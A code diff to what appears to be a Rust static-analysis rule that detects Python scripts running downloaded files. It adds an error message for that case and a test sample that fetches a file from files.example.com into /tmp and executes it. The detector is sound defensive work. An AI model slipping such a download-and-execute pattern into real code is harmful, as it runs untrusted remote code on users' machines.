@@ -29,6 +29,10 @@ pub static RULE: Rule = Rule {
         ),
         Sample::File(
             "scripts/a.py",
+            "import subprocess, urllib.request\nurllib.request.urlretrieve('https://files.example.com/u', '/tmp/u')\nsubprocess.run(['/tmp/u'])\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
             "import asyncio\nasync def go():\n    await asyncio.create_subprocess_exec('date')\n",
         ),
     ],
@@ -62,7 +66,12 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
             continue;
         }
         let raised = reporter.raise_flow(operation.span, &command.way);
-        if let Some(program) = program {
+        if command.text.is_some() && command.origins.has(Origins::NETWORK) {
+            // Fixed words that came over the network: the file they name did.
+            raised
+                .message("Python runs a file that it downloads")
+                .severity(Severity::Error);
+        } else if let Some(program) = program {
             raised.message(format!("Python runs the program `{program}`"));
         } else if command.text.is_none() && command.origins.has(Origins::NETWORK) {
             raised
